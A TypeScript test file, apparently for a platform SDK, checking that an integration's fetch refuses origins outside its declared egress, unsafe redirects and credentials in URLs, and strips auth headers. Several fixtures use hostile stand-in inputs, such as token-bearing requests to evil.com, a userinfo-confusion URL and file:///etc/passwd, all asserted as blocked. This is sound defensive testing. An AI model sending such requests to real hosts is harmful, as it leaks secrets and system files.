import { defineIntegration, EgressDeniedError } from '@platform/sdk/integration';
import {
  type CapabilityFetchRequest,
  type CapabilityFetchResponse,
  createContext,
  createGuestFetch,
  createMemoryCapabilities,
} from '@platform/sdk/runtime';
import { describe, expect, it } from 'vitest';

interface Reply {
  readonly status: number;
  readonly statusText?: string;
  readonly headers?: readonly (readonly [string, string])[];
  readonly body?: string | Uint8Array;
}

/** One hop as the far side saw it, copied at the time it was sent. */
interface Seen {
  readonly url: string;
  readonly method: string;
  readonly headers: [string, string][];
  readonly body: string | null;
}

const b64 = (body: string | Uint8Array) => Buffer.from(body).toString('base64');
const bytesOf = (base64: string | null) =>
  base64 === null ? null : new Uint8Array(Buffer.from(base64, 'base64'));
const textOf = (base64: string | null) =>
  base64 === null ? null : Buffer.from(base64, 'base64').toString('utf8');

function toCapabilityResponse(reply: Reply): CapabilityFetchResponse {
  return {
    status: reply.status,
    statusText: reply.statusText ?? '',
    headers: reply.headers ?? [],
    body: reply.body === undefined ? '' : b64(reply.body),
  };
}

/**
 * A scripted far side: `routes` maps `<METHOD> <url>` or `<url>` to a reply; anything else fails
 * the test. Returns a guest fetch over it plus what it saw.
 */
function scripted(egress: readonly string[], routes: Record<string, Reply>, maxRedirects?: number) {
  const seen: Seen[] = [];
  const capabilities = createMemoryCapabilities({
    fetch: async (request: CapabilityFetchRequest) => {
      seen.push({
        url: request.url,
        method: request.method,
        headers: request.headers.map(([name, value]) => [name, value] as [string, string]),
        body: request.body,
      });
      const reply = routes[`${request.method} ${request.url}`] ?? routes[request.url];
      if (reply === undefined) throw new Error(`unscripted request ${request.method} ${request.url}`);
      return toCapabilityResponse(reply);
    },
  });
  const fetch = createGuestFetch({
    egress,
    capabilities,
    ...(maxRedirects === undefined ? {} : { maxRedirects }),
  });
  return { fetch, capabilities, seen };
}

async function denied(promise: Promise<unknown>): Promise<EgressDeniedError> {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(EgressDeniedError);
  return error as EgressDeniedError;
}

const redirect = (status: number, location: string): Reply => ({
  status,
  statusText: 'Redirect',
  headers: [['location', location]],
});
const ok = (body: string): Reply => ({
  status: 200,
  statusText: 'OK',
  headers: [['content-type', 'text/plain']],
  body,
});

describe('egress: exact origins', () => {
  it('sends a request to an allowed exact origin and returns its response', async () => {
    const { fetch, seen, capabilities } = scripted(['https://api.acme.com'], {
      'GET https://api.acme.com/v1/items?page=2': {
        status: 200,
        statusText: 'OK',
        headers: [['content-type', 'application/json']],
        body: '{"items":[1,2]}',
      },
    });
    const response = await fetch('https://api.acme.com/v1/items?page=2');
    expect(response.status).toBe(200);
    expect(response.statusText).toBe('OK');
    expect(response.ok).toBe(true);
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(await response.json()).toEqual({ items: [1, 2] });
    expect(response.url).toBe('https://api.acme.com/v1/items?page=2');
    expect(response.redirected).toBe(false);
    expect(seen).toEqual([
      { url: 'https://api.acme.com/v1/items?page=2', method: 'GET', headers: [], body: null },
    ]);
    expect(capabilities.state.requests).toHaveLength(1);
  });

  it('refuses an origin outside egress without calling the capability, URL redacted in the message', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    const error = await denied(fetch('https://evil.com/steal?token=abc#frag'));
    expect(error.code).toBe('EGRESS_DENIED');
    expect(error.name).toBe('EgressDeniedError');
    expect(error.origin).toBe('https://evil.com');
    expect(error.reason).toBeUndefined();
    expect(error.message).toBe(
      "ctx.fetch to https://evil.com/steal?... refused: https://evil.com is not in this integration's egress; add it to egress in the definition",
    );
    expect(error.message).not.toContain('abc');
    expect(capabilities.state.requests).toEqual([]);
    expect(capabilities.state.logs).toEqual([]);
  });

  it('treats the default port as the exact origin and any other port as another origin', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], { 'https://api.acme.com/x': ok('fine') });
    expect(await (await fetch('https://api.acme.com:443/x')).text()).toBe('fine');
    expect(seen.map((hop) => hop.url)).toEqual(['https://api.acme.com/x']);
    const error = await denied(fetch('https://api.acme.com:8443/x'));
    expect(error.origin).toBe('https://api.acme.com:8443');
  });

  it('allows an http exact origin with a port when declared', async () => {
    const { fetch } = scripted(['http://localhost:8080'], { 'http://localhost:8080/health': ok('up') });
    expect(await (await fetch('http://localhost:8080/health')).text()).toBe('up');
    const error = await denied(fetch('https://localhost:8080/health'));
    expect(error.origin).toBe('https://localhost:8080');
  });

  it('refuses everything when egress is empty', async () => {
    const { fetch, capabilities } = scripted([], {});
    const error = await denied(fetch('https://api.acme.com/'));
    expect(error.origin).toBe('https://api.acme.com');
    expect(capabilities.state.requests).toEqual([]);
  });
});

describe('egress: wildcard https://*.acme.com', () => {
  const egress = ['https://*.acme.com'];

  it.each(['https://api.acme.com/v1', 'https://a.b.acme.com/deep', 'https://API.Acme.COM/v1'])(
    'allows %s',
    async (url) => {
      const { fetch, seen } = scripted(egress, { [new URL(url).href]: ok('yes') });
      const response = await fetch(url);
      expect(await response.text()).toBe('yes');
      expect(seen.map((hop) => hop.url)).toEqual([new URL(url).href]);
    },
  );

  it.each([
    ['https://acme.com/', 'https://acme.com'],
    ['http://api.acme.com/', 'http://api.acme.com'],
    ['https://api.acme.com:8443/', 'https://api.acme.com:8443'],
    ['https://evilacme.com/', 'https://evilacme.com'],
    ['https://acme.com.evil.com/', 'https://acme.com.evil.com'],
    ['https://api.acme.co/', 'https://api.acme.co'],
  ])('refuses %s', async (url, origin) => {
    const { fetch, capabilities } = scripted(egress, {});
    const error = await denied(fetch(url));
    expect(error.code).toBe('EGRESS_DENIED');
    expect(error.origin).toBe(origin);
    expect(error.reason).toBeUndefined();
    expect(capabilities.state.requests).toEqual([]);
  });
});

describe('egress: userinfo, schemes and malformed URLs', () => {
  it('refuses https://api.acme.com@evil.com/: the host is evil.com', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    const error = await denied(fetch('https://api.acme.com@evil.com/?t=1'));
    expect(error.origin).toBe('https://evil.com');
    expect(error.reason).toBe('credentials');
    expect(error.message).toBe(
      'ctx.fetch to https://evil.com/?... refused: the URL carries credentials; send them in a header instead',
    );
    expect(capabilities.state.requests).toEqual([]);
  });

  it('refuses credentials in the URL even to an allowed origin, without showing them', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    const error = await denied(fetch('https://user:pass@api.acme.com/v1'));
    expect(error.origin).toBe('https://api.acme.com');
    expect(error.reason).toBe('credentials');
    expect(error.message).toBe(
      'ctx.fetch to https://api.acme.com/v1 refused: the URL carries credentials; send them in a header instead',
    );
    expect(error.message).not.toContain('pass');
    const userOnly = await denied(fetch(new URL('https://user@api.acme.com/')));
    expect(userOnly.reason).toBe('credentials');
    expect(capabilities.state.requests).toEqual([]);
  });

  it.each([
    ['ftp://api.acme.com/file.txt', 'ftp://api.acme.com'],
    ['file:///etc/passwd', 'null'],
    ['data:text/plain,hello', 'null'],
  ])('refuses the non-http scheme of %s', async (url, origin) => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    const error = await denied(fetch(url));
    expect(error.code).toBe('EGRESS_DENIED');
    expect(error.reason).toBe('scheme');
    expect(error.origin).toBe(origin);
    expect(error.message).toMatch(/refused: only http\(s\) URLs can be fetched$/);
    expect(capabilities.state.requests).toEqual([]);
  });

  it('throws TypeError for a relative URL, its query redacted', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    await expect(fetch('/v1/items?token=abc')).rejects.toThrow(
      new TypeError('ctx.fetch needs an absolute URL; received "/v1/items?..."'),
    );
    expect(capabilities.state.requests).toEqual([]);
  });

  it('keeps credentials and query of an unparsable URL out of the TypeError message', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    await expect(fetch('https://admin:hunter2@api.acme.com:99999/x?token=t')).rejects.toThrow(
      new TypeError('ctx.fetch needs an absolute URL; received "https://api.acme.com:99999/x?..."'),
    );
    expect(capabilities.state.requests).toEqual([]);
  });
});

describe('redirects', () => {
  it('follows a 302 to an allowed origin', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com', 'https://cdn.acme.com'], {
      'https://api.acme.com/file?id=1': redirect(302, 'https://cdn.acme.com/blob/1?sig=x'),
      'https://cdn.acme.com/blob/1?sig=x': ok('the file'),
    });
    const response = await fetch('https://api.acme.com/file?id=1');
    expect(response.status).toBe(200);
    expect(await response.text()).toBe('the file');
    expect(response.url).toBe('https://cdn.acme.com/blob/1?sig=x');
    expect(response.redirected).toBe(true);
    expect(seen.map((hop) => `${hop.method} ${hop.url}`)).toEqual([
      'GET https://api.acme.com/file?id=1',
      'GET https://cdn.acme.com/blob/1?sig=x',
    ]);
  });

  it.each([301, 302, 303, 307, 308])('follows a %i', async (status) => {
    const { fetch } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/old': redirect(status, 'https://api.acme.com/new'),
      'https://api.acme.com/new': ok('moved'),
    });
    const response = await fetch('https://api.acme.com/old');
    expect(await response.text()).toBe('moved');
    expect(response.redirected).toBe(true);
  });

  it('returns a 3xx without Location as it is, and does not follow a 300 or 304', async () => {
    const { fetch } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/a': { status: 302, statusText: 'Found' },
      'https://api.acme.com/b': { status: 300, statusText: 'Multiple', headers: [['location', '/a']] },
      'https://api.acme.com/c': { status: 304, statusText: 'Not Modified', headers: [['location', '/a']] },
    });
    const a = await fetch('https://api.acme.com/a');
    expect([a.status, a.redirected]).toEqual([302, false]);
    const b = await fetch('https://api.acme.com/b');
    expect([b.status, b.headers.get('location')]).toEqual([300, '/a']);
    const c = await fetch('https://api.acme.com/c');
    expect([c.status, c.body]).toEqual([304, null]);
  });

  it('refuses a redirect to an origin outside egress and never sends the second hop', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/go': redirect(302, 'https://evil.com/collect?token=abc'),
    });
    const error = await denied(fetch('https://api.acme.com/go'));
    expect(error.code).toBe('EGRESS_DENIED');
    expect(error.reason).toBe('redirect');
    expect(error.origin).toBe('https://evil.com');
    expect(error.message).toBe(
      "ctx.fetch to https://evil.com/collect?... (redirect target) refused: https://evil.com is not in this integration's egress; add it to egress in the definition",
    );
    expect(seen.map((hop) => hop.url)).toEqual(['https://api.acme.com/go']);
  });

  it('refuses a redirect to a non-http scheme', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/go': redirect(301, 'file:///etc/passwd'),
    });
    const error = await denied(fetch('https://api.acme.com/go'));
    expect(error.reason).toBe('scheme');
    expect(error.message).toContain('(redirect target)');
    expect(seen).toHaveLength(1);
  });

  it('refuses an https to http downgrade when only https is allowed', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/go': redirect(302, 'http://api.acme.com/go'),
    });
    const error = await denied(fetch('https://api.acme.com/go'));
    expect(error.origin).toBe('http://api.acme.com');
    expect(error.reason).toBe('redirect');
    expect(seen).toHaveLength(1);
  });

  it('resolves a relative Location against the current URL', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/v1/items/list': redirect(302, '../other?page=2'),
      'https://api.acme.com/v1/other?page=2': redirect(307, '/v2/items'),
      'https://api.acme.com/v2/items': ok('done'),
    });
    const response = await fetch('https://api.acme.com/v1/items/list');
    expect(await response.text()).toBe('done');
    expect(response.url).toBe('https://api.acme.com/v2/items');
    expect(seen.map((hop) => hop.url)).toEqual([
      'https://api.acme.com/v1/items/list',
      'https://api.acme.com/v1/other?page=2',
      'https://api.acme.com/v2/items',
    ]);
  });

  function chain(length: number): Record<string, Reply> {
    const routes: Record<string, Reply> = {};
    for (let i = 0; i < length; i++) routes[`https://api.acme.com/r${i}`] = redirect(302, `/r${i + 1}`);
    routes[`https://api.acme.com/r${length}`] = ok(`end of ${length}`);
    return routes;
  }

  it('follows a chain of 5 redirects', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], chain(5));
    const response = await fetch('https://api.acme.com/r0');
    expect(await response.text()).toBe('end of 5');
    expect(response.url).toBe('https://api.acme.com/r5');
    expect(seen).toHaveLength(6);
  });

  it('gives up at the 6th redirect with a TypeError, the 7th request never sent', async () => {
    const routes = chain(6);
    routes['https://api.acme.com/r0?key=k'] = redirect(302, '/r1');
    const { fetch, seen } = scripted(['https://api.acme.com'], routes);
    await expect(fetch('https://api.acme.com/r0?key=k')).rejects.toThrow(
      new TypeError('fetch https://api.acme.com/r0?... followed more than 5 redirects'),
    );
    expect(seen.map((hop) => hop.url)).toEqual([
      'https://api.acme.com/r0?key=k',
      'https://api.acme.com/r1',
      'https://api.acme.com/r2',
      'https://api.acme.com/r3',
      'https://api.acme.com/r4',
      'https://api.acme.com/r5',
    ]);
  });

  it('honours maxRedirects passed to createContext', async () => {
    const capabilities = createMemoryCapabilities({
      fetch: async (request) =>
        toCapabilityResponse(request.url.endsWith('/r0') ? redirect(302, '/r1') : ok('after one')),
    });
    const definition = defineIntegration({ slug: 'acme-notes', egress: ['https://api.acme.com'] });
    const none = createContext({
      definition,
      capabilities,
      actor: { kind: 'machine', accountId: 'a' },
      maxRedirects: 0,
    });
    await expect(none.fetch('https://api.acme.com/r0')).rejects.toThrow(
      new TypeError('fetch https://api.acme.com/r0 followed more than 0 redirects'),
    );
    const one = createContext({
      definition,
      capabilities,
      actor: { kind: 'machine', accountId: 'a' },
      maxRedirects: 1,
    });
    expect(await (await one.fetch('https://api.acme.com/r0')).text()).toBe('after one');
  });

  it('turns POST + 303 into GET without a body or body headers', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'POST https://api.acme.com/submit': redirect(303, '/result'),
      'GET https://api.acme.com/result': ok('created'),
    });
    const response = await fetch('https://api.acme.com/submit', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-trace': 't-1' },
      body: '{"a":1}',
    });
    expect(await response.text()).toBe('created');
    expect(seen).toEqual([
      {
        url: 'https://api.acme.com/submit',
        method: 'POST',
        headers: [
          ['content-type', 'application/json'],
          ['x-trace', 't-1'],
        ],
        body: b64('{"a":1}'),
      },
      { url: 'https://api.acme.com/result', method: 'GET', headers: [['x-trace', 't-1']], body: null },
    ]);
  });

  it('turns PUT + 303 into GET as well', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'PUT https://api.acme.com/doc': redirect(303, '/doc/view'),
      'GET https://api.acme.com/doc/view': ok('view'),
    });
    await fetch('https://api.acme.com/doc', { method: 'PUT', body: 'x' });
    expect(seen.map((hop) => [hop.method, hop.body])).toEqual([
      ['PUT', b64('x')],
      ['GET', null],
    ]);
  });

  it.each([301, 302])('turns POST + %i into GET without a body', async (status) => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'POST https://api.acme.com/submit': redirect(status, '/elsewhere'),
      'GET https://api.acme.com/elsewhere': ok('landed'),
    });
    const response = await fetch('https://api.acme.com/submit', { method: 'POST', body: 'form=1' });
    expect(await response.text()).toBe('landed');
    expect(seen.map((hop) => [hop.method, hop.body, hop.headers])).toEqual([
      ['POST', b64('form=1'), [['content-type', 'text/plain;charset=UTF-8']]],
      ['GET', null, []],
    ]);
  });

  it('keeps PUT and its body across a 302 (only POST is rewritten)', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'PUT https://api.acme.com/a': redirect(302, '/b'),
      'PUT https://api.acme.com/b': ok('put'),
    });
    await fetch('https://api.acme.com/a', { method: 'PUT', body: 'payload' });
    expect(seen.map((hop) => [hop.method, textOf(hop.body)])).toEqual([
      ['PUT', 'payload'],
      ['PUT', 'payload'],
    ]);
  });

  it.each([307, 308])('keeps method, body and headers across a %i', async (status) => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'POST https://api.acme.com/upload': redirect(status, '/upload/v2'),
      'POST https://api.acme.com/upload/v2': { status: 201, statusText: 'Created', body: 'stored' },
    });
    const bytes = new Uint8Array([0, 1, 2, 253, 254, 255]);
    const response = await fetch('https://api.acme.com/upload', {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream' },
      body: bytes,
    });
    expect(response.status).toBe(201);
    expect(seen).toHaveLength(2);
    for (const hop of seen) {
      expect(hop.method).toBe('POST');
      expect(bytesOf(hop.body)).toEqual(bytes);
      expect(hop.headers).toEqual([['content-type', 'application/octet-stream']]);
    }
  });

  it('keeps HEAD as HEAD after a 303', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'HEAD https://api.acme.com/a': redirect(303, '/b'),
      'HEAD https://api.acme.com/b': { status: 200, statusText: 'OK' },
    });
    await fetch('https://api.acme.com/a', { method: 'HEAD' });
    expect(seen.map((hop) => hop.method)).toEqual(['HEAD', 'HEAD']);
  });

  it('returns the 3xx itself with redirect: "manual"', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/login': redirect(302, 'https://evil.com/anywhere'),
    });
    const response = await fetch('https://api.acme.com/login', { redirect: 'manual' });
    expect(response.status).toBe(302);
    expect(response.headers.get('location')).toBe('https://evil.com/anywhere');
    expect(response.redirected).toBe(false);
    expect(response.url).toBe('https://api.acme.com/login');
    expect(seen).toHaveLength(1);
  });

  it('throws a TypeError on a redirect with redirect: "error"', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/a?token=t': redirect(301, '/b'),
      'https://api.acme.com/c': ok('plain'),
    });
    await expect(fetch('https://api.acme.com/a?token=t', { redirect: 'error' })).rejects.toThrow(
      new TypeError('fetch https://api.acme.com/a?... was redirected and redirect is "error"'),
    );
    expect(seen).toHaveLength(1);
    // Without a redirect, "error" mode answers normally.
    expect(await (await fetch('https://api.acme.com/c', { redirect: 'error' })).text()).toBe('plain');
  });

  it('drops Authorization on a cross-origin redirect but keeps other headers', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com', 'https://files.acme.com'], {
      'https://api.acme.com/download': redirect(302, 'https://files.acme.com/blob'),
      'https://files.acme.com/blob': ok('blob'),
    });
    await fetch('https://api.acme.com/download', {
      headers: { Authorization: 'Bearer secret-token', 'X-Request-Id': 'r-1' },
    });
    expect(seen.map((hop) => hop.headers)).toEqual([
      [
        ['authorization', 'Bearer secret-token'],
        ['x-request-id', 'r-1'],
      ],
      [['x-request-id', 'r-1']],
    ]);
  });

  it('keeps Authorization on a same-origin redirect', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/v1/me': redirect(301, '/v2/me'),
      'https://api.acme.com/v2/me': ok('me'),
    });
    await fetch('https://api.acme.com/v1/me', { headers: { Authorization: 'Bearer secret-token' } });
    expect(seen.map((hop) => hop.headers)).toEqual([
      [['authorization', 'Bearer secret-token']],
      [['authorization', 'Bearer secret-token']],
    ]);
  });

  it('leaves a request already sent untouched when a later hop drops headers', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com', 'https://files.acme.com'], {
      'POST https://api.acme.com/download': redirect(303, 'https://files.acme.com/blob'),
      'GET https://files.acme.com/blob': ok('blob'),
    });
    await fetch('https://api.acme.com/download', {
      method: 'POST',
      headers: { Authorization: 'Bearer secret-token', 'content-type': 'application/json' },
      body: '{}',
    });
    expect(capabilities.state.requests.map((request) => request.headers)).toEqual([
      [
        ['authorization', 'Bearer secret-token'],
        ['content-type', 'application/json'],
      ],
      [],
    ]);
  });
});

describe('request and response bodies', () => {
  it('sends a text body and headers to the capability', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'POST https://api.acme.com/notes': { status: 201, statusText: 'Created', body: '{"id":"n1"}' },
    });
    const response = await fetch('https://api.acme.com/notes', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json; charset=utf-8', 'X-Api-Key': 'k-1' },
      body: JSON.stringify({ title: 'héllo ✓' }),
    });
    expect(response.status).toBe(201);
    expect(await response.json()).toEqual({ id: 'n1' });
    expect(seen).toHaveLength(1);
    expect(seen[0]?.headers).toEqual([
      ['content-type', 'application/json; charset=utf-8'],
      ['x-api-key', 'k-1'],
    ]);
    expect(seen[0]?.body).toBe(b64('{"title":"héllo ✓"}'));
    expect(textOf(seen[0]?.body ?? null)).toBe('{"title":"héllo ✓"}');
  });

  it('sends a binary body byte for byte', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'PUT https://api.acme.com/blob': { status: 204, statusText: 'No Content' },
    });
    const bytes = new Uint8Array(256);
    for (let i = 0; i < bytes.length; i++) bytes[i] = 255 - i;
    await fetch('https://api.acme.com/blob', { method: 'PUT', body: bytes });
    expect(bytesOf(seen[0]?.body ?? null)).toEqual(bytes);
  });

  it('sends a null body for a bodiless request', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'DELETE https://api.acme.com/x': { status: 204 },
    });
    await fetch('https://api.acme.com/x', { method: 'DELETE' });
    expect(seen).toEqual([{ url: 'https://api.acme.com/x', method: 'DELETE', headers: [], body: null }]);
  });

  it('returns status, statusText, repeated headers and a binary body exactly', async () => {
    const bytes = new Uint8Array([0xff, 0xfe, 0x00, 0x80, 0x7f, 0xc3, 0x28]);
    const { fetch } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/img': {
        status: 206,
        statusText: 'Partial Content',
        headers: [
          ['content-type', 'image/png'],
          ['set-cookie', 'a=1'],
          ['set-cookie', 'b=2'],
          ['x-rate-remaining', '99'],
        ],
        body: bytes,
      },
    });
    const response = await fetch('https://api.acme.com/img');
    expect(response.status).toBe(206);
    expect(response.statusText).toBe('Partial Content');
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('x-rate-remaining')).toBe('99');
    expect(response.headers.getSetCookie()).toEqual(['a=1', 'b=2']);
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(bytes);
  });

  it('returns a 204 with a null body', async () => {
    const { fetch } = scripted(['https://api.acme.com'], {
      'DELETE https://api.acme.com/notes/1': { status: 204, statusText: 'No Content' },
    });
    const response = await fetch('https://api.acme.com/notes/1', { method: 'DELETE' });
    expect(response.status).toBe(204);
    expect(response.body).toBeNull();
    expect(await response.text()).toBe('');
  });

  it('returns error statuses as responses, not throws', async () => {
    const { fetch } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/missing': { status: 404, statusText: 'Not Found', body: 'nope' },
    });
    const response = await fetch('https://api.acme.com/missing');
    expect([response.status, response.ok, await response.text()]).toEqual([404, false, 'nope']);
  });

  it('keeps the method, headers and body of a Request given as input', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], {
      'PATCH https://api.acme.com/notes/7?x=1': { status: 200, body: 'patched' },
    });
    const request = new Request('https://api.acme.com/notes/7?x=1', {
      method: 'PATCH',
      headers: { 'x-k': 'v', 'content-type': 'application/json' },
      body: '{"done":true}',
    });
    const response = await fetch(request);
    expect(await response.text()).toBe('patched');
    expect(seen).toEqual([
      {
        url: 'https://api.acme.com/notes/7?x=1',
        method: 'PATCH',
        headers: [
          ['content-type', 'application/json'],
          ['x-k', 'v'],
        ],
        body: b64('{"done":true}'),
      },
    ]);
  });

  it('checks a Request input against egress too', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {});
    const error = await denied(fetch(new Request('https://evil.com/x', { method: 'POST', body: 'x' })));
    expect(error.origin).toBe('https://evil.com');
    expect(capabilities.state.requests).toEqual([]);
  });

  it('accepts a URL object', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], { 'https://api.acme.com/u': ok('url') });
    expect(await (await fetch(new URL('https://api.acme.com/u'))).text()).toBe('url');
    expect(seen.map((hop) => hop.url)).toEqual(['https://api.acme.com/u']);
  });
});

describe('logging', () => {
  it('logs each hop at debug level with the redacted URL and the status', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com', 'https://cdn.acme.com'], {
      'POST https://api.acme.com/a?token=secret': redirect(302, 'https://cdn.acme.com/b?sig=secret2'),
      'GET https://cdn.acme.com/b?sig=secret2': ok('b'),
    });
    await fetch('https://api.acme.com/a?token=secret', { method: 'POST', body: 'x' });
    expect(capabilities.state.logs).toHaveLength(2);
    expect(capabilities.state.logs.map((entry) => entry.level)).toEqual(['debug', 'debug']);
    expect(capabilities.state.logs.map((entry) => Object.keys(entry).sort())).toEqual([
      ['level', 'message'],
      ['level', 'message'],
    ]);
    expect(capabilities.state.logs[0]?.message).toMatch(
      /^fetch POST https:\/\/api\.acme\.com\/a\?\.\.\. -> 302 \(\d+ ms\)$/,
    );
    expect(capabilities.state.logs[1]?.message).toMatch(
      /^fetch GET https:\/\/cdn\.acme\.com\/b\?\.\.\. -> 200 \(\d+ ms\)$/,
    );
    expect(JSON.stringify(capabilities.state.logs)).not.toContain('secret');
  });

  it('logs nothing for a refused request', async () => {
    const { fetch, capabilities } = scripted(['https://api.acme.com'], {
      'https://api.acme.com/go': redirect(302, 'https://evil.com/'),
    });
    await expect(fetch('https://api.acme.com/go')).rejects.toBeInstanceOf(EgressDeniedError);
    expect(capabilities.state.logs.map((entry) => entry.message.replace(/\(\d+ ms\)/, '(n ms)'))).toEqual([
      'fetch GET https://api.acme.com/go -> 302 (n ms)',
    ]);
  });
});

describe('ctx.fetch', () => {
  it('is held to the definition egress', async () => {
    const capabilities = createMemoryCapabilities({ fetch: async () => toCapabilityResponse(ok('via ctx')) });
    const definition = defineIntegration({ slug: 'acme-notes', egress: ['https://*.acme.com'] });
    const ctx = createContext({
      definition,
      capabilities,
      actor: { kind: 'user', userId: 'u', accountId: 'a' },
    });
    expect(await (await ctx.fetch('https://api.acme.com/x')).text()).toBe('via ctx');
    const error = await denied(ctx.fetch('https://acme.com/x'));
    expect(error.origin).toBe('https://acme.com');
    expect(capabilities.state.requests.map((request) => request.url)).toEqual(['https://api.acme.com/x']);
  });

  it('sends User-Agent platform-integration/<slug> unless the request sets its own, on every hop', async () => {
    const capabilities = createMemoryCapabilities({
      fetch: async (request) =>
        request.url.endsWith('/go')
          ? toCapabilityResponse(redirect(302, 'https://api.acme.com/x'))
          : toCapabilityResponse(ok('x')),
    });
    const definition = defineIntegration({ slug: 'acme-notes', egress: ['https://api.acme.com'] });
    const ctx = createContext({ definition, capabilities, actor: { kind: 'machine', accountId: 'a' } });
    await ctx.fetch('https://api.acme.com/go');
    await ctx.fetch('https://api.acme.com/x', { headers: { 'User-Agent': 'acme-bot/1.2' } });
    await ctx.fetch(new Request('https://api.acme.com/x', { headers: { 'user-agent': 'from-request' } }));
    expect(
      capabilities.state.requests.map((request) =>
        request.headers.filter(([name]) => name.toLowerCase() === 'user-agent').map(([, value]) => value),
      ),
    ).toEqual([
      ['platform-integration/acme-notes'],
      ['platform-integration/acme-notes'],
      ['acme-bot/1.2'],
      ['from-request'],
    ]);
  });

  it('sends no User-Agent of its own when createGuestFetch is given none', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], { 'https://api.acme.com/x': ok('x') });
    await fetch('https://api.acme.com/x');
    expect(seen[0]?.headers).toEqual([]);
  });

  it('refuses everything for a definition without egress', async () => {
    const capabilities = createMemoryCapabilities();
    const ctx = createContext({
      definition: { slug: 'acme-notes' },
      capabilities,
      actor: { kind: 'machine', accountId: 'a' },
    });
    const error = await denied(ctx.fetch('https://api.acme.com/'));
    expect(error.code).toBe('EGRESS_DENIED');
    expect(capabilities.state.requests).toEqual([]);
  });
});

describe('fetch semantics partner code relies on', () => {
  it('rejects with the abort reason and sends nothing when the signal is already aborted', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], { 'https://api.acme.com/x': ok('x') });
    const controller = new AbortController();
    controller.abort();
    await expect(fetch('https://api.acme.com/x', { signal: controller.signal })).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(seen).toHaveLength(0);
  });

  it('stops between redirect hops once aborted', async () => {
    const controller = new AbortController();
    const seen: string[] = [];
    const capabilities = createMemoryCapabilities({
      fetch: async (request) => {
        seen.push(request.url);
        controller.abort();
        return toCapabilityResponse(redirect(302, 'https://api.acme.com/next'));
      },
    });
    const fetch = createGuestFetch({ egress: ['https://api.acme.com'], capabilities });
    await expect(fetch('https://api.acme.com/first', { signal: controller.signal })).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(seen).toEqual(['https://api.acme.com/first']);
  });

  it('never sends the fragment, and the response url has none', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com'], { 'https://api.acme.com/x?a=1': ok('x') });
    const response = await fetch('https://api.acme.com/x?a=1#section');
    expect(seen.map((hop) => hop.url)).toEqual(['https://api.acme.com/x?a=1']);
    expect(response.url).toBe('https://api.acme.com/x?a=1');
  });

  it('drops Cookie and Proxy-Authorization as well as Authorization on a cross-origin redirect', async () => {
    const { fetch, seen } = scripted(['https://api.acme.com', 'https://files.acme.com'], {
      'https://api.acme.com/download': redirect(302, 'https://files.acme.com/blob'),
      'https://files.acme.com/blob': ok('blob'),
    });
    await fetch('https://api.acme.com/download', {
      headers: {
        Cookie: 'session=1',
        'Proxy-Authorization': 'Basic x',
        Authorization: 'Bearer t',
        Accept: 'text/plain',
      },
    });
    expect(seen[1]?.headers).toEqual([['accept', 'text/plain']]);
  });
});
